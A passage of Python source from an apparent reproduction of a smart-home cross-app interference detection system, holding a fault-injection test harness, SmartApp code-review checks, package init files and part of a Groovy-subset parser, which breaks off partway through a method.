# (unshielded) state after fork, which is exactly what we want: only
# the coordinator's own recovery frames are shielded.
_LOCAL = threading.local()


@contextmanager
def shielded(prefix: str = ""):
    """Suppress faults for points starting with ``prefix`` in this thread."""
    stack = getattr(_LOCAL, "shields", None)
    if stack is None:
        stack = _LOCAL.shields = []
    stack.append(prefix)
    try:
        yield
    finally:
        stack.pop()


@contextmanager
def tagged(tag: str):
    """Attach ``tag`` to fault events fired from this thread."""
    stack = getattr(_LOCAL, "tags", None)
    if stack is None:
        stack = _LOCAL.tags = []
    stack.append(tag)
    try:
        yield
    finally:
        stack.pop()


def _is_shielded(point: str) -> bool:
    stack = getattr(_LOCAL, "shields", None)
    if not stack:
        return False
    return any(point.startswith(prefix) for prefix in stack)


def _current_tag() -> str | None:
    stack = getattr(_LOCAL, "tags", None)
    return stack[-1] if stack else None


class FaultPlan:
    """A seeded set of fault specs with process-shared call counters."""

    def __init__(
        self,
        specs: list[FaultSpec] | tuple[FaultSpec, ...],
        *,
        seed: int = 0,
        log_path: str | os.PathLike[str] | None = None,
    ) -> None:
        self.seed = int(seed)
        self.log_path = os.fspath(log_path) if log_path is not None else None
        self._specs: dict[str, tuple[FaultSpec, ...]] = {}
        for spec in specs:
            self._specs[spec.point] = self._specs.get(spec.point, ()) + (spec,)
        # One shared slot per point for call counts and trigger counts.
        # fork-inherited, so pool workers increment the same memory.
        self._calls = {point: multiprocessing.Value("Q", 0) for point in self._specs}
        self._fired = {point: multiprocessing.Value("Q", 0) for point in self._specs}

    # -- introspection -------------------------------------------------

    def calls(self, point: str) -> int:
        slot = self._calls.get(point)
        return int(slot.value) if slot is not None else 0

    def fired(self, point: str) -> int:
        slot = self._fired.get(point)
        return int(slot.value) if slot is not None else 0

    def fired_total(self) -> int:
        return sum(int(slot.value) for slot in self._fired.values())

    def events(self) -> list[dict]:
        """Parse the JSON-lines event log (empty if no log configured)."""
        if self.log_path is None or not os.path.exists(self.log_path):
            return []
        out = []
        with open(self.log_path, encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if line:
                    out.append(json.loads(line))
        return out

    # -- firing --------------------------------------------------------

    def fire(self, point: str, **info) -> None:
        specs = self._specs.get(point)
        if not specs or _is_shielded(point):
            return
        calls = self._calls[point]
        with calls.get_lock():
            calls.value += 1
            index = int(calls.value)
        for spec in specs:
            if spec.triggers(index, self.seed):
                fired = self._fired[point]
                with fired.get_lock():
                    fired.value += 1
                self._log_event(spec, index, info)
                self._act(spec, point, index)
                return

    def _log_event(self, spec: FaultSpec, index: int, info: dict) -> None:
        if self.log_path is None:
            return
        event = {
            "point": spec.point,
            "kind": spec.kind,
            "index": index,
            "pid": os.getpid(),
            "tag": _current_tag(),
        }
        event.update(info)
        line = json.dumps(event, sort_keys=True) + "\n"
        # O_APPEND single-write keeps concurrent writers line-atomic.
        fd = os.open(self.log_path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
        try:
            os.write(fd, line.encode("utf-8"))
        finally:
            os.close(fd)

    def _act(self, spec: FaultSpec, point: str, index: int) -> None:
        message = f"injected {spec.kind} at {point} (call {index})"
        if spec.kind == "error":
            raise InjectedFault(message)
        if spec.kind == "io-error":
            raise sqlite3.OperationalError(message)
        if spec.kind == "disconnect":
            raise ConnectionResetError(message)
        if spec.kind == "hang":
            time.sleep(spec.delay)
            return
        if spec.kind == "kill":
            os._exit(spec.exit_code)
        raise AssertionError(spec.kind)  # pragma: no cover

    # -- installation --------------------------------------------------

    def __enter__(self) -> "FaultPlan":
        install_plan(self)
        return self

    def __exit__(self, *exc_info) -> None:
        clear_plan()


_ACTIVE: FaultPlan | None = None


def install_plan(plan: FaultPlan) -> None:
    """Install ``plan`` globally.

    Install *before* the first use of a process-pool dispatcher so
    lazily forked workers inherit the plan and its shared counters.
    """
    global _ACTIVE
    _ACTIVE = plan


def clear_plan() -> None:
    global _ACTIVE
    _ACTIVE = None


def fault_hook(point: str, **info) -> None:
    """Injection point: no-op (one global read) unless a plan is active."""
    plan = _ACTIVE
    if plan is not None:
        plan.fire(point, **info)
