"""Test-support utilities shipped with the library.

``repro.testing.faults`` hosts the deterministic fault-injection
harness used by the chaos batteries and the fault-recovery benchmark.
It lives under ``src/`` (not ``tests/``) because production modules
carry the (zero-cost-when-inactive) injection points.
"""

from repro.testing.faults import FaultPlan, FaultSpec, InjectedFault, fault_hook

__all__ = ["FaultPlan", "FaultSpec", "InjectedFault", "fault_hook"]
