"""SmartApp code-review checks (paper §VIII-D.2).

SmartThings' manual code review bans dynamic method execution and
requires developers to ``switch`` over all possible GString values
before doing anything with them; the sandbox additionally restricts the
``Executor`` API surface.  This package automates those checks, so the
rule extractor can rely on the same guarantees the platform enforces:

* no dynamic method execution (``"$name"()`` or ``invokeMethod``),
* banned sandbox methods never called,
* GStrings that reach method-call position must be switched over,
* only declared inputs are referenced (a hygiene check that also
  catches the "customized meaningless names" evasion the paper notes
  defeats NLP-based tools like SmartAuth).
"""

from repro.review.checks import Finding, ReviewReport, review_app

__all__ = ["Finding", "ReviewReport", "review_app"]
