"""Static code-review checks over the SmartApp AST."""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.lang import ast_nodes as ast
from repro.lang.parser import parse
from repro.runtime.sandbox import BANNED_METHODS

_SEVERITIES = ("error", "warning")

# Platform / Groovy globals that are not app inputs but are always
# available inside the sandbox.
_AMBIENT_IDENTIFIERS = {
    "location", "state", "atomicState", "app", "log", "settings", "params",
    "Math", "it", "this", "now", "true", "false", "null", "request",
    "response",
}


@dataclass(frozen=True, slots=True)
class Finding:
    """One review finding."""

    check: str
    severity: str
    message: str
    line: int

    def __str__(self) -> str:
        return f"[{self.severity}] line {self.line}: {self.message} ({self.check})"


@dataclass(slots=True)
class ReviewReport:
    """Outcome of reviewing one app."""

    app_name: str
    findings: list[Finding] = field(default_factory=list)

    @property
    def passed(self) -> bool:
        return not any(f.severity == "error" for f in self.findings)

    def errors(self) -> list[Finding]:
        return [f for f in self.findings if f.severity == "error"]

    def warnings(self) -> list[Finding]:
        return [f for f in self.findings if f.severity == "warning"]


def review_app(source: str, app_name: str = "") -> ReviewReport:
    """Run all code-review checks over ``source``."""
    module = parse(source)
    report = ReviewReport(app_name=app_name)
    _check_banned_methods(module, report)
    _check_dynamic_dispatch(module, report)
    _check_gstring_switch(module, report)
    _check_undeclared_identifiers(module, report)
    return report


# ----------------------------------------------------------------------
# Individual checks


def _walk_module(module: ast.Module):
    for stmt in module.top_level:
        yield from ast.walk(stmt)
    for method in module.methods.values():
        yield from ast.walk(method)


def _check_banned_methods(module: ast.Module, report: ReviewReport) -> None:
    for node in _walk_module(module):
        if isinstance(node, ast.MethodCall) and node.name in BANNED_METHODS:
            report.findings.append(
                Finding(
                    check="banned-method",
                    severity="error",
                    message=f"call to sandbox-banned method {node.name!r}",
                    line=node.location.line,
                )
            )


def _check_dynamic_dispatch(module: ast.Module, report: ReviewReport) -> None:
    """Dynamic method execution: calling a method whose *name* is a
    runtime value (``"$cmd"()``, ``device."$attr"()``).  Our grammar
    cannot even parse the quoted-call form, so the check looks for the
    reflective equivalents that do parse."""
    for node in _walk_module(module):
        if isinstance(node, ast.MethodCall):
            if node.name in ("invokeMethod", "getProperty", "setProperty"):
                report.findings.append(
                    Finding(
                        check="dynamic-dispatch",
                        severity="error",
                        message=(
                            "dynamic method execution via "
                            f"{node.name!r} is banned by code review"
                        ),
                        line=node.location.line,
                    )
                )


def _collect_gstring_vars(module: ast.Module) -> dict[str, int]:
    """Local variables assigned from GStrings (candidate dynamic data)."""
    assigned: dict[str, int] = {}
    for node in _walk_module(module):
        if isinstance(node, ast.VarDecl) and isinstance(
            node.initializer, ast.GStringLiteral
        ):
            assigned[node.name] = node.location.line
        elif isinstance(node, ast.Assignment) and isinstance(
            node.value, ast.GStringLiteral
        ):
            if isinstance(node.target, ast.Identifier):
                assigned[node.target.name] = node.location.line
    return assigned


def _check_gstring_switch(module: ast.Module, report: ReviewReport) -> None:
    """GStrings used to select behaviour must pass through a ``switch``
    over their possible values (paper §VIII-D.2).

    Heuristic faithful to the review guideline: a GString-derived
    variable may flow into a ``switch`` subject freely; using it as a
    command *argument selector* without a switch draws a warning.
    """
    gstring_vars = _collect_gstring_vars(module)
    if not gstring_vars:
        return
    switched: set[str] = set()
    for node in _walk_module(module):
        if isinstance(node, ast.SwitchStmt) and isinstance(
            node.subject, ast.Identifier
        ):
            switched.add(node.subject.name)
    for node in _walk_module(module):
        if not isinstance(node, ast.MethodCall):
            continue
        for arg in node.positional_args():
            if (
                isinstance(arg, ast.Identifier)
                and arg.name in gstring_vars
                and arg.name not in switched
                and node.name not in ("log", "debug", "info", "trace",
                                      "sendPush", "sendSms",
                                      "sendSmsMessage", "sendNotification")
            ):
                report.findings.append(
                    Finding(
                        check="gstring-switch",
                        severity="warning",
                        message=(
                            f"GString-derived variable {arg.name!r} used in "
                            f"call {node.name!r} without a switch over its "
                            "possible values"
                        ),
                        line=node.location.line,
                    )
                )


def _declared_names(module: ast.Module) -> set[str]:
    names: set[str] = set(_AMBIENT_IDENTIFIERS)
    names.update(module.methods)
    for node in _walk_module(module):
        if isinstance(node, ast.MethodCall) and node.name == "input":
            positional = node.positional_args()
            if positional and isinstance(positional[0], ast.StringLiteral):
                names.add(positional[0].value)
        elif isinstance(node, ast.VarDecl):
            names.add(node.name)
        elif isinstance(node, ast.Assignment) and isinstance(
            node.target, ast.Identifier
        ):
            names.add(node.target.name)
        elif isinstance(node, ast.MethodDecl):
            names.update(param.name for param in node.params)
        elif isinstance(node, ast.ClosureExpr):
            names.update(param.name for param in node.params)
        elif isinstance(node, ast.ForInStmt):
            names.add(node.variable)
    return names


def _check_undeclared_identifiers(
    module: ast.Module, report: ReviewReport
) -> None:
    declared = _declared_names(module)
    seen: set[str] = set()
    for method in module.methods.values():
        for node in ast.walk(method):
            if (
                isinstance(node, ast.Identifier)
                and node.name not in declared
                and node.name not in seen
            ):
                seen.add(node.name)
                report.findings.append(
                    Finding(
                        check="undeclared-identifier",
                        severity="warning",
                        message=f"identifier {node.name!r} is not a declared "
                                "input, local, method or platform object",
                        line=node.location.line,
                    )
                )
