"""HomeGuard — Cross-App Interference threat detection for smart homes.

A from-scratch reproduction of *"Cross-App Interference Threats in Smart
Homes: Categorization, Detection and Handling"* (Chi, Zeng, Du, Yu —
DSN 2020).

Public API highlights
---------------------
* :class:`repro.service.HomeGuardService` — the canonical multi-tenant
  service: N homes over one shared backend extractor and solver
  dispatcher, typed JSON-round-trippable wire schemas
  (:class:`~repro.service.InstallRequest`,
  :class:`~repro.service.InstallSession`,
  :class:`~repro.service.ThreatReport`, the
  :class:`~repro.service.ServiceError` taxonomy) and pluggable
  threat-handling policies (DESIGN.md §11),
* :class:`repro.HomeGuard` — single-home deployment facade, now a
  compatibility shim over the service (offline rule extraction +
  online installation-time detection),
* :func:`repro.rules.extract_rules` — symbolic-execution rule extraction
  for one SmartApp,
* :class:`repro.detector.DetectionEngine` — pairwise CAI detection
  (AR/GC/CT/SD/LT/EC/DC + chains),
* :class:`repro.detector.DetectionPipeline` /
  :class:`repro.detector.DetectionStore` — the indexed incremental
  pipeline and its persistent, environment-sharded store (warm-start
  audits across processes; DESIGN.md §8),
* :mod:`repro.constraints.dispatch` — plan/execute solver batching with
  serial / thread / process backends (byte-identical results;
  DESIGN.md §9),
* :class:`repro.runtime.SmartHome` — concrete smart-home simulator for
  verifying threats dynamically,
* :mod:`repro.corpus` — the 205-app evaluation corpus.
"""

from repro.homeguard import HomeGuard, InstalledDevice
from repro.frontend.app import InstallDecision, InstallReview
from repro.service import (
    AuditRequest,
    DecisionRequest,
    HomeGuardService,
    InstallRequest,
    InstallSession,
    ServiceError,
    ThreatReport,
)

__version__ = "2.4.0"

__all__ = [
    "AuditRequest",
    "DecisionRequest",
    "HomeGuard",
    "HomeGuardService",
    "InstallDecision",
    "InstallRequest",
    "InstallReview",
    "InstallSession",
    "InstalledDevice",
    "ServiceError",
    "ThreatReport",
    "__version__",
]
