"""HomeGuard — Cross-App Interference threat detection for smart homes.

A from-scratch reproduction of *"Cross-App Interference Threats in Smart
Homes: Categorization, Detection and Handling"* (Chi, Zeng, Du, Yu —
DSN 2020).

Public API highlights
---------------------
* :class:`repro.HomeGuard` — end-to-end deployment facade (offline rule
  extraction + online installation-time detection),
* :func:`repro.rules.extract_rules` — symbolic-execution rule extraction
  for one SmartApp,
* :class:`repro.detector.DetectionEngine` — pairwise CAI detection
  (AR/GC/CT/SD/LT/EC/DC + chains),
* :class:`repro.detector.DetectionPipeline` /
  :class:`repro.detector.DetectionStore` — the indexed incremental
  pipeline and its persistent, environment-sharded store (warm-start
  audits across processes; DESIGN.md §8),
* :mod:`repro.constraints.dispatch` — plan/execute solver batching with
  serial / thread / process backends (``HomeGuard(workers=4)`` fans the
  solver loop out with byte-identical results; DESIGN.md §9),
* :class:`repro.runtime.SmartHome` — concrete smart-home simulator for
  verifying threats dynamically,
* :mod:`repro.corpus` — the 205-app evaluation corpus.
"""

from repro.homeguard import HomeGuard, InstalledDevice
from repro.frontend.app import InstallDecision, InstallReview

__version__ = "1.0.0"

__all__ = [
    "HomeGuard",
    "InstallDecision",
    "InstallReview",
    "InstalledDevice",
    "__version__",
]
