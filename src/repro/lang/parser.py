"""Recursive-descent parser for the Groovy subset used by SmartApps.

Statement separation follows Groovy's newline rules: a binary operator
or call-opening token does not continue the previous expression when a
newline precedes it, while a leading ``.`` does continue a method chain.
Paren-free command calls (``input "tv1", "capability.switch", title:
"Which TV?"`` and ``log.debug "msg"``) are recognised at statement level
with bounded lookahead.
"""

from __future__ import annotations

from repro.lang import ast_nodes as ast
from repro.lang.errors import ParseError, SourceLocation
from repro.lang.lexer import tokenize
from repro.lang.tokens import Token, TokenType

# Tokens that may begin an expression; used for command-syntax lookahead.
_ARG_START = {
    TokenType.INT,
    TokenType.DECIMAL,
    TokenType.STRING,
    TokenType.GSTRING,
    TokenType.IDENT,
    TokenType.TRUE,
    TokenType.FALSE,
    TokenType.NULL,
    TokenType.LBRACKET,
    TokenType.NEW,
}

_MODIFIERS = {"private", "public", "protected", "static"}

_BINARY_LEVELS: list[set[TokenType]] = [
    {TokenType.OR},
    {TokenType.AND},
    {TokenType.EQ, TokenType.NEQ, TokenType.SPACESHIP},
    {TokenType.LT, TokenType.LE, TokenType.GT, TokenType.GE, TokenType.IN},
    {TokenType.PLUS, TokenType.MINUS},
    {TokenType.STAR, TokenType.SLASH, TokenType.PERCENT},
]


class Parser:
    """Parses a token stream into a :class:`repro.lang.ast_nodes.Module`."""

    def __init__(self, tokens: list[Token]) -> None:
        self._tokens = tokens
        self._pos = 0

    # ------------------------------------------------------------------
    # Token helpers

    def _peek(self, offset: int = 0) -> Token:
        index = min(self._pos + offset, len(self._tokens) - 1)
        return self._tokens[index]

    def _advance(self) -> Token:
        token = self._tokens[self._pos]
        if token.type is not TokenType.EOF:
            self._pos += 1
        return token

    def _check(self, token_type: TokenType, offset: int = 0) -> bool:
        return self._peek(offset).type is token_type

    def _match(self, *token_types: TokenType) -> Token | None:
        if self._peek().type in token_types:
            return self._advance()
        return None

    def _expect(self, token_type: TokenType, context: str) -> Token:
        token = self._peek()
        if token.type is not token_type:
            raise ParseError(
                f"expected {token_type.value!r} {context}, found "
                f"{token.type.value!r}",
                token.location,
            )
        return self._advance()

    def _skip_semicolons(self) -> None:
        while self._match(TokenType.SEMICOLON):
            pass

    def _loc(self) -> SourceLocation:
        return self._peek().location

    # ------------------------------------------------------------------
    # Module

    def parse_module(self) -> ast.Module:
        module = ast.Module(location=SourceLocation(1, 1))
        self._skip_semicolons()
        while not self._check(TokenType.EOF):
            if self._is_method_decl():
                decl = self._parse_method_decl()
                module.methods[decl.name] = decl
            else:
                module.top_level.append(self._parse_statement())
            self._skip_semicolons()
        return module

    def _is_method_decl(self) -> bool:
        offset = 0
        if (
            self._check(TokenType.IDENT)
            and self._peek().value in _MODIFIERS
            and self._check(TokenType.DEF, 1)
        ):
            offset = 1
        return (
            self._check(TokenType.DEF, offset)
            and self._check(TokenType.IDENT, offset + 1)
            and self._check(TokenType.LPAREN, offset + 2)
        )

    def _parse_method_decl(self) -> ast.MethodDecl:
        location = self._loc()
        if self._peek().value in _MODIFIERS and self._check(TokenType.DEF, 1):
            self._advance()
        self._expect(TokenType.DEF, "to start method declaration")
        name = self._expect(TokenType.IDENT, "as method name").value
        self._expect(TokenType.LPAREN, "after method name")
        params: list[ast.Param] = []
        while not self._check(TokenType.RPAREN):
            param_loc = self._loc()
            # Parameters may carry a `def` or type prefix: `def evt`, `Map m`.
            if self._match(TokenType.DEF) is None:
                if self._check(TokenType.IDENT) and self._check(TokenType.IDENT, 1):
                    self._advance()
            param_name = self._expect(TokenType.IDENT, "as parameter name").value
            default = None
            if self._match(TokenType.ASSIGN):
                default = self.parse_expression()
            params.append(ast.Param(location=param_loc, name=param_name, default=default))
            if not self._match(TokenType.COMMA):
                break
        self._expect(TokenType.RPAREN, "after parameter list")
        body = self._parse_block()
        return ast.MethodDecl(location=location, name=name, params=params, body=body)

    # ------------------------------------------------------------------
    # Statements

    def _parse_block(self) -> ast.Block:
        location = self._loc()
        self._expect(TokenType.LBRACE, "to open block")
        statements: list[ast.Stmt] = []
        self._skip_semicolons()
        while not self._check(TokenType.RBRACE) and not self._check(TokenType.EOF):
            statements.append(self._parse_statement())
            self._skip_semicolons()
        self._expect(TokenType.RBRACE, "to close block")
        return ast.Block(location=location, statements=statements)

    def _parse_block_or_statement(self) -> ast.Block:
        if self._check(TokenType.LBRACE):
            return self._parse_block()
        location = self._loc()
        return ast.Block(location=location, statements=[self._parse_statement()])

    def _parse_statement(self) -> ast.Stmt:
        token = self._peek()
        if token.type is TokenType.IF:
            return self._parse_if()
        if token.type is TokenType.SWITCH:
            return self._parse_switch()
        if token.type is TokenType.FOR:
            return self._parse_for()
        if token.type is TokenType.WHILE:
            return self._parse_while()
        if token.type is TokenType.RETURN:
            return self._parse_return()
        if token.type is TokenType.BREAK:
            self._advance()
            return ast.BreakStmt(location=token.location)
        if token.type is TokenType.DEF:
            return self._parse_var_decl()
        if (
            token.type is TokenType.IDENT
            and self._check(TokenType.COLON, 1)
        ):
            return self._parse_labeled_statement()
        if (
            token.type is TokenType.IDENT
            and self._check(TokenType.IDENT, 1)
            and self._check(TokenType.ASSIGN, 2)
        ):
            # Typed declaration: `Map data = [...]` — the type is dropped.
            self._advance()
            return self._parse_var_decl(consume_def=False)
        return self._parse_expression_statement()

    def _parse_if(self) -> ast.IfStmt:
        location = self._loc()
        self._advance()
        self._expect(TokenType.LPAREN, "after 'if'")
        condition = self.parse_expression()
        self._expect(TokenType.RPAREN, "after if-condition")
        then_block = self._parse_block_or_statement()
        else_block = None
        if self._check(TokenType.ELSE):
            self._advance()
            if self._check(TokenType.IF):
                nested = self._parse_if()
                else_block = ast.Block(location=nested.location, statements=[nested])
            else:
                else_block = self._parse_block_or_statement()
        return ast.IfStmt(
            location=location,
            condition=condition,
            then_block=then_block,
            else_block=else_block,
        )

    def _parse_switch(self) -> ast.SwitchStmt:
        location = self._loc()
        self._advance()
        self._expect(TokenType.LPAREN, "after 'switch'")
        subject = self.parse_expression()
        self._expect(TokenType.RPAREN, "after switch subject")
        self._expect(TokenType.LBRACE, "to open switch body")
        cases: list[ast.SwitchCase] = []
        while not self._check(TokenType.RBRACE) and not self._check(TokenType.EOF):
            case_loc = self._loc()
            if self._match(TokenType.CASE):
                match: ast.Expr | None = self.parse_expression()
            else:
                self._expect(TokenType.DEFAULT, "or 'case' in switch body")
                match = None
            self._expect(TokenType.COLON, "after case label")
            statements: list[ast.Stmt] = []
            has_break = False
            while self._peek().type not in (
                TokenType.CASE,
                TokenType.DEFAULT,
                TokenType.RBRACE,
                TokenType.EOF,
            ):
                if self._check(TokenType.BREAK):
                    self._advance()
                    self._skip_semicolons()
                    has_break = True
                    break
                statements.append(self._parse_statement())
                self._skip_semicolons()
            body = ast.Block(location=case_loc, statements=statements)
            cases.append(
                ast.SwitchCase(
                    location=case_loc, match=match, body=body, has_break=has_break
                )
            )
        self._expect(TokenType.RBRACE, "to close switch body")
        return ast.SwitchStmt(location=location, subject=subject, cases=cases)

    def _parse_for(self) -> ast.ForInStmt:
        location = self._loc()
        self._advance()
        self._expect(TokenType.LPAREN, "after 'for'")
        self._match(TokenType.DEF)
        variable = self._expect(TokenType.IDENT, "as loop variable").value
        self._expect(TokenType.IN, "in for-in loop")
        iterable = self.parse_expression()
        self._expect(TokenType.RPAREN, "after for-in header")
        body = self._parse_block_or_statement()
        return ast.ForInStmt(
            location=location, variable=variable, iterable=iterable, body=body
        )

    def _parse_while(self) -> ast.WhileStmt:
        location = self._loc()
        self._advance()
        self._expect(TokenType.LPAREN, "after 'while'")
        condition = self.parse_expression()
        self._expect(TokenType.RPAREN, "after while-condition")
        body = self._parse_block_or_statement()
        return ast.WhileStmt(location=location, condition=condition, body=body)

    def _parse_return(self) -> ast.ReturnStmt:
        location = self._loc()
        self._advance()
        value = None
        next_token = self._peek()
        if (
            not next_token.after_newline
            and next_token.type not in (TokenType.RBRACE, TokenType.SEMICOLON, TokenType.EOF)
        ):
            value = self.parse_expression()
        return ast.ReturnStmt(location=location, value=value)

    def _parse_var_decl(self, consume_def: bool = True) -> ast.VarDecl:
        location = self._loc()
        if consume_def:
            self._expect(TokenType.DEF, "to start variable declaration")
        name = self._expect(TokenType.IDENT, "as variable name").value
        initializer = None
        if self._match(TokenType.ASSIGN):
            initializer = self.parse_expression()
        return ast.VarDecl(location=location, name=name, initializer=initializer)

    def _parse_labeled_statement(self) -> ast.LabeledStmt:
        location = self._loc()
        label = self._advance().value
        self._expect(TokenType.COLON, "after statement label")
        value = self.parse_expression()
        return ast.LabeledStmt(location=location, label=label, value=value)

    def _parse_expression_statement(self) -> ast.Stmt:
        location = self._loc()
        command = self._try_parse_command_call()
        expr = command if command is not None else self.parse_expression()
        op_token = self._match(
            TokenType.ASSIGN, TokenType.PLUS_ASSIGN, TokenType.MINUS_ASSIGN
        )
        if op_token is not None:
            value = self.parse_expression()
            return ast.Assignment(
                location=location, target=expr, value=value, op=op_token.value
            )
        return ast.ExprStmt(location=location, expr=expr)

    def _try_parse_command_call(self) -> ast.MethodCall | None:
        """Recognise Groovy command syntax with bounded lookahead.

        Matches ``name arg, ...`` and ``recv.name arg, ...`` where the
        first argument token sits on the same line.  Returns ``None`` when
        the statement is not a paren-free call.
        """
        if not self._check(TokenType.IDENT):
            return None
        offset = 1
        # Walk a property chain: IDENT (DOT IDENT)*
        while self._check(TokenType.DOT, offset) and self._check(
            TokenType.IDENT, offset + 1
        ):
            offset += 2
        arg_token = self._peek(offset)
        if arg_token.after_newline or arg_token.type not in _ARG_START:
            return None
        # `x y = ...` is a typed declaration, not a command; `x y.z()` is a
        # genuine command call (e.g. `sendSms phone, msg` is IDENT IDENT).
        if arg_token.type is TokenType.IDENT and self._check(TokenType.ASSIGN, offset + 1):
            return None
        location = self._loc()
        name_token = self._advance()
        receiver: ast.Expr | None = None
        name = name_token.value
        while self._check(TokenType.DOT):
            self._advance()
            next_name = self._expect(TokenType.IDENT, "after '.'").value
            base = (
                ast.Identifier(location=location, name=name)
                if receiver is None
                else ast.PropertyAccess(location=location, receiver=receiver, name=name)
            )
            receiver = base
            name = next_name
        args = self._parse_argument_list(terminated_by_paren=False)
        return ast.MethodCall(
            location=location,
            receiver=receiver,
            name=name,
            args=args,
            parenthesized=False,
        )

    # ------------------------------------------------------------------
    # Expressions (precedence climbing)

    def parse_expression(self) -> ast.Expr:
        return self._parse_ternary()

    def _parse_ternary(self) -> ast.Expr:
        condition = self._parse_binary(0)
        if self._check(TokenType.QUESTION) and not self._peek().after_newline:
            location = self._advance().location
            if_true = self.parse_expression()
            self._expect(TokenType.COLON, "in ternary expression")
            if_false = self.parse_expression()
            return ast.TernaryOp(
                location=location,
                condition=condition,
                if_true=if_true,
                if_false=if_false,
            )
        if self._check(TokenType.ELVIS) and not self._peek().after_newline:
            location = self._advance().location
            fallback = self.parse_expression()
            return ast.ElvisOp(location=location, value=condition, fallback=fallback)
        return condition

    def _parse_binary(self, level: int) -> ast.Expr:
        if level >= len(_BINARY_LEVELS):
            return self._parse_range()
        left = self._parse_binary(level + 1)
        while (
            self._peek().type in _BINARY_LEVELS[level]
            and not self._peek().after_newline
        ):
            op_token = self._advance()
            right = self._parse_binary(level + 1)
            op = "in" if op_token.type is TokenType.IN else op_token.value
            left = ast.BinaryOp(
                location=op_token.location, op=op, left=left, right=right
            )
        return left

    def _parse_range(self) -> ast.Expr:
        low = self._parse_unary()
        if self._check(TokenType.RANGE) and not self._peek().after_newline:
            location = self._advance().location
            high = self._parse_unary()
            return ast.RangeLiteral(location=location, low=low, high=high)
        return low

    def _parse_unary(self) -> ast.Expr:
        token = self._peek()
        if token.type in (TokenType.NOT, TokenType.MINUS, TokenType.PLUS):
            self._advance()
            operand = self._parse_unary()
            if token.type is TokenType.PLUS:
                return operand
            # Constant-fold negative literals so thresholds stay literals.
            if token.type is TokenType.MINUS and isinstance(operand, ast.IntLiteral):
                return ast.IntLiteral(location=token.location, value=-operand.value)
            if token.type is TokenType.MINUS and isinstance(operand, ast.DecimalLiteral):
                return ast.DecimalLiteral(location=token.location, value=-operand.value)
            return ast.UnaryOp(location=token.location, op=token.value, operand=operand)
        if token.type in (TokenType.INCREMENT, TokenType.DECREMENT):
            self._advance()
            operand = self._parse_unary()
            return ast.UnaryOp(location=token.location, op=token.value, operand=operand)
        return self._parse_power()

    def _parse_power(self) -> ast.Expr:
        base = self._parse_postfix()
        if self._check(TokenType.POWER) and not self._peek().after_newline:
            location = self._advance().location
            exponent = self._parse_unary()
            return ast.BinaryOp(location=location, op="**", left=base, right=exponent)
        return base

    def _parse_postfix(self) -> ast.Expr:
        expr = self._parse_primary()
        while True:
            token = self._peek()
            if token.type in (TokenType.DOT, TokenType.SAFE_DOT):
                # A leading `.` on the next line continues a method chain.
                safe = token.type is TokenType.SAFE_DOT
                self._advance()
                name = self._parse_member_name()
                if self._check(TokenType.LPAREN) and not self._peek().after_newline:
                    args = self._parse_paren_arguments()
                    args.extend(self._parse_trailing_closure())
                    expr = ast.MethodCall(
                        location=token.location,
                        receiver=expr,
                        name=name,
                        args=args,
                        safe=safe,
                    )
                elif self._check(TokenType.LBRACE) and not self._peek().after_newline:
                    args = self._parse_trailing_closure()
                    expr = ast.MethodCall(
                        location=token.location,
                        receiver=expr,
                        name=name,
                        args=args,
                        safe=safe,
                    )
                else:
                    expr = ast.PropertyAccess(
                        location=token.location, receiver=expr, name=name, safe=safe
                    )
            elif token.type is TokenType.METHOD_REF:
                self._advance()
                name = self._parse_member_name()
                expr = ast.MethodPointer(
                    location=token.location, receiver=expr, name=name
                )
            elif token.type is TokenType.LPAREN and not token.after_newline:
                if not isinstance(expr, (ast.Identifier, ast.PropertyAccess)):
                    break
                args = self._parse_paren_arguments()
                args.extend(self._parse_trailing_closure())
                if isinstance(expr, ast.Identifier):
                    expr = ast.MethodCall(
                        location=token.location,
                        receiver=None,
                        name=expr.name,
                        args=args,
                    )
                else:
                    expr = ast.MethodCall(
                        location=token.location,
                        receiver=expr.receiver,
                        name=expr.name,
                        args=args,
                        safe=expr.safe,
                    )
            elif token.type is TokenType.LBRACKET and not token.after_newline:
                self._advance()
                index = self.parse_expression()
                self._expect(TokenType.RBRACKET, "to close index access")
                expr = ast.IndexAccess(
                    location=token.location, receiver=expr, index=index
                )
            elif token.type is TokenType.LBRACE and not token.after_newline:
                if not isinstance(expr, (ast.Identifier, ast.PropertyAccess)):
                    break
                args = self._parse_trailing_closure()
                if isinstance(expr, ast.Identifier):
                    expr = ast.MethodCall(
                        location=token.location,
                        receiver=None,
                        name=expr.name,
                        args=args,
                    )
                else:
                    expr = ast.MethodCall(
                        location=token.location,
                        receiver=expr.receiver,
                        name=expr.name,
                        args=args,
                        safe=expr.safe,
                    )
            elif (
                token.type is TokenType.IDENT
                and token.value == "as"
                and not token.after_newline
            ):
                self._advance()
                type_name = self._expect(TokenType.IDENT, "after 'as'").value
                expr = ast.CastExpr(
                    location=token.location, value=expr, type_name=type_name
                )
            elif token.type in (TokenType.INCREMENT, TokenType.DECREMENT):
                self._advance()
                expr = ast.UnaryOp(
                    location=token.location, op="post" + token.value, operand=expr
                )
            else:
                break
        return expr

    def _parse_member_name(self) -> str:
        token = self._peek()
        if token.type is TokenType.IDENT:
            return self._advance().value
        # Keywords are legal member names after a dot (`evt.default`).
        if token.value is not None and str(token.value).isidentifier():
            self._advance()
            return str(token.value)
        raise ParseError("expected member name after '.'", token.location)

    def _parse_paren_arguments(self) -> list[ast.Expr | ast.NamedArgument]:
        self._expect(TokenType.LPAREN, "to open argument list")
        args = self._parse_argument_list(terminated_by_paren=True)
        self._expect(TokenType.RPAREN, "to close argument list")
        return args

    def _parse_argument_list(
        self, terminated_by_paren: bool
    ) -> list[ast.Expr | ast.NamedArgument]:
        args: list[ast.Expr | ast.NamedArgument] = []
        if terminated_by_paren and self._check(TokenType.RPAREN):
            return args
        while True:
            args.append(self._parse_argument())
            if not self._match(TokenType.COMMA):
                break
        return args

    def _parse_argument(self) -> ast.Expr | ast.NamedArgument:
        token = self._peek()
        if (
            token.type in (TokenType.IDENT, TokenType.STRING)
            and self._check(TokenType.COLON, 1)
        ):
            name = str(self._advance().value)
            self._advance()  # ':'
            value = self.parse_expression()
            return ast.NamedArgument(location=token.location, name=name, value=value)
        return self.parse_expression()

    def _parse_trailing_closure(self) -> list[ast.Expr]:
        if self._check(TokenType.LBRACE) and not self._peek().after_newline:
            return [self._parse_closure()]
        return []

    def _parse_closure(self) -> ast.ClosureExpr:
        location = self._loc()
